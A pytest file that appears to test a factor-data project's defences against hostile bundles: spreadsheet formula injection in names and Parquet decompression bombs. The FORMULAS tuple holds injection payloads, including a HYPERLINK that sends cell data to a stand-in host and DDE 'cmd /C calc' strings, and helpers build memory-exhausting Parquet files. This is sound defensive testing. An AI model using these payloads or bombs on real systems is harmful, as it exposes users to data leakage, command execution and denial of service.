"""Attack: what a label party can put into a signed bundle, to run on a quant's machine or to fill its memory.

Hashes and signatures say that a file is the label party's, not that it is harmless. Names in it are free text, and a
Parquet file of some kilobytes can stand for gigabytes.
"""

from __future__ import annotations

import csv
import io
import resource
from types import SimpleNamespace
from typing import Any, cast
from unittest import mock

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from parties.coordinator.desk.csv_sheet import sheet
from parties.errors import DataError
from parties.factor.bundle_check import check_agreed_size
from parties.factor.formats import plain_csv
from parties.ledger.export import to_csv
from vfl.factors import adapters
from vfl.factors.adapters import alphalens_csv, parquet, signals_csv
from vfl.factors.bounded_parquet import LONGEST_TEXT, _check_footer, read_frame, read_table
from vfl.factors.csv_cells import inert
from vfl.factors.trials import read_trials

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1/?"&A1,"AAPL")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+1|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "A\r=1+1", "A\n=1+1", "\uff1d1+1",
)  # fmt: skip
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def factor(names: tuple[str, ...]) -> pd.DataFrame:
    """A factor of one date over these names."""
    dates = [pd.Timestamp("2024-01-05")] * len(names)
    index = pd.MultiIndex.from_arrays([dates, list(names)], names=["datetime", "instrument"])
    return pd.DataFrame({"score": np.linspace(-1.5, 1, len(names))}, index=index)


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def formulas(content: bytes) -> list[str]:
    """The cells that a spreadsheet takes for a formula: not those that are plain numbers, or one sign."""
    found = [cell for row in cells(content) for cell in row if cell.startswith(BEGINS) and not _number(cell)]
    return [cell for cell in found if len(cell) > 1]  # a sign alone is text to every spreadsheet


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return not cell.startswith(("\t", "\r", "\n"))


def test_a_name_becomes_a_formula_in_a_spreadsheet_where_nothing_is_done() -> None:
    with mock.patch.object(adapters, "inert", str):
        assert len(formulas(alphalens_csv(factor(FORMULAS)))) >= 5


def test_no_csv_of_ours_has_a_formula() -> None:
    frame = factor(FORMULAS)
    many = factor((*FORMULAS, *(f"ID{i}" for i in range(120))))
    rows = [
        {"transaction": text, "account": text, "unit": text, "narration": text, "credit": "-5"} for text in FORMULAS
    ]
    written = {
        "csv": plain_csv(frame), "alphalens": alphalens_csv(frame), "numerai": signals_csv(many)[1],
        "ledger": to_csv(rows).encode(), "desk": sheet(("=head", "n"), [(text, -1.5) for text in FORMULAS]),
    }  # fmt: skip
    for name, content in written.items():
        assert formulas(content) == [], name
        assert sum("'" + FORMULAS[0] in row for row in cells(content)) == 1, name


def test_numbers_stay_numbers() -> None:
    for text in ("-1.5", "+3", "-2e-05", "-.5", "-3.", "1", "-0", "2024-01-05", "AAPL", "-"):
        assert inert(text) == text
    for text in ("--1", "-1-1", "-1e", "+A1", "-nan", "-1 "):
        assert inert(text) == f"'{text}"
    assert [float(row[2]) for row in cells(alphalens_csv(factor(("A", "B", "C"))))[1:]] == [-1.5, -0.25, 1.0]
    assert cells(to_csv([{"account": "A", "pending": "-12.50"}]).encode())[1] == ["A", "-12.50"]


@given(st.text(max_size=30))
def test_whatever_a_name_is_no_cell_begins_a_formula(text: str) -> None:
    frame = factor((text, "AAPL"))
    for content in (alphalens_csv(frame), plain_csv(frame), to_csv([{"account": text}]).encode()):
        assert formulas(content) == []
    if text.isprintable():
        assert inert(text) in (text, f"'{text}")


def bomb(rows: int, *, columns: int = 1) -> bytes:
    """One value, written once and repeated ``rows`` times."""
    kinds = pa.schema([(f"c{i}", pa.float64()) for i in range(columns)])
    sink = io.BytesIO()
    chunk = pa.table([np.zeros(1_000_000)] * columns, schema=kinds)
    with pq.ParquetWriter(sink, kinds, compression="zstd", use_dictionary=True) as writer:
        for _ in range(rows // 1_000_000):
            writer.write_table(chunk)
    return sink.getvalue()


def test_a_small_file_that_is_large_in_memory_is_refused_by_its_footer() -> None:
    small = bomb(30_000_000)
    assert len(small) < 200_000
    assert pq.read_table(io.BytesIO(small)).nbytes > 200e6, "without the check it is decoded"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    huge = bomb(200_000_000)
    with pytest.raises(ValueError, match="200,000,000 rows, more than the 20,000,000"):
        read_frame(huge)
    with pytest.raises(ValueError, match="more than the 1,000 there can be"):
        read_frame(small, most_rows=1_000)
    with pytest.raises(ValueError, match=r"trials\.parquet: its footer says"):
        read_trials(small)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000, "kilobytes of memory"


def test_a_bundle_that_claims_more_than_was_agreed_is_refused_before_it_is_decoded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A recipient knows periods and entities of the run: other counts and huge row groups are refused by name."""
    agreed = {"factor.parquet": parquet(factor(("A", "B"))), "pit.parquet": parquet(factor(("A", "B")))}
    rows = len(factor(("A", "B")))
    check_agreed_size(agreed, rows // 2, 2)

    def never(*_: object, **__: object) -> None:
        raise AssertionError("decoded")

    monkeypatch.setattr(pq, "read_table", never)
    for name in agreed:
        for content in (bomb(1_000_000), bomb(30_000_000)):
            with pytest.raises(DataError, match=rf"{name} of the factor bundle: its footer says [\d,]+ rows"):
                check_agreed_size({**agreed, name: content}, rows // 2, 2)
        with pytest.raises(DataError, match=f"{name} of the factor bundle: not a Parquet file"):
            check_agreed_size({**agreed, name: b"PAR1"}, rows // 2, 2)
        with pytest.raises(DataError, match=f"has no {name}"):
            check_agreed_size({other: agreed[other] for other in agreed if other != name}, rows // 2, 2)


@pytest.mark.parametrize("claim", ["rows", "values", "bytes"])
def test_a_footer_that_contradicts_its_row_groups_is_refused(claim: str) -> None:
    """Few rows by the footer, and a row group that says otherwise: what a decoder would allocate is what counts."""
    column = SimpleNamespace(num_values=10**9 if claim == "values" else 2)
    group = SimpleNamespace(
        num_rows=10**9 if claim == "rows" else 2,
        num_columns=1,
        total_byte_size=2**40 if claim == "bytes" else 16,
        column=lambda _: column,
    )
    footer = SimpleNamespace(num_rows=2, num_columns=1, num_row_groups=1, row_group=lambda _: group)
    said = {"rows": "contradicts itself about its rows", "values": "values of a column", "bytes": "bytes, more than"}
    with pytest.raises(ValueError, match=said[claim]):
        _check_footer(cast(Any, footer), 100)


def test_nor_do_long_texts_hide_behind_a_dictionary() -> None:
    """One text of a megabyte, told 20,000 times: 20 GB of text in a file of a few kilobytes."""
    words = pa.DictionaryArray.from_arrays(pa.array(np.zeros(20_000, np.int32)), pa.array(["x" * 2**20]))
    ones = pa.array(np.arange(20_001, dtype=np.int32))
    for column in (words, pa.ListArray.from_arrays(ones, words)):
        sink = io.BytesIO()
        pq.write_table(pa.table({"text": column}), sink, compression="zstd", store_schema=False)
        assert len(sink.getvalue()) < 200_000
        with pytest.raises(ValueError, match=f"more than {LONGEST_TEXT:,}"):
            read_table(sink.getvalue())


def test_too_many_columns_and_what_is_no_parquet_are_refused() -> None:
    with pytest.raises(ValueError, match="300 columns"):
        read_frame(bomb(1_000_000, columns=300))
    good = parquet(factor(("A", "B")))
    for content in (b"", b"PAR1", good[:-9], good[: len(good) // 2], b"PAR1" + bytes(64) + b"PAR1"):
        with pytest.raises(ValueError, match="not a Parquet file that can be read"):
            read_frame(content)


def test_an_honest_factor_reads_as_it_was_written() -> None:
    frame = factor(("AAPL", "=ODD", "007", "NA"))
    pd.testing.assert_frame_equal(read_frame(parquet(frame)), pd.read_parquet(io.BytesIO(parquet(frame))))


def test_a_kind_of_column_that_does_not_exist_is_refused() -> None:
    table = pq.read_table(io.BytesIO(parquet(factor(("AAPL",)))))
    told = table.schema.metadata[b"pandas"].replace(b'"numpy_type": "str"', b'"numpy_type": "otr"')
    assert told != table.schema.metadata[b"pandas"]
    sink = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({b"pandas": told}), sink)
    with pytest.raises(ValueError, match="kinds cannot be read"):
        read_frame(sink.getvalue())


@given(st.data())
def test_a_flipped_byte_reads_or_is_refused(data: st.DataObject) -> None:
    content = bytearray(parquet(factor(("AAPL", "MSFT", "007"))))
    place = data.draw(st.integers(0, len(content) - 1))
    content[place] ^= data.draw(st.integers(1, 255))
    try:
        read_frame(bytes(content), most_rows=1000)
    except ValueError:
        return
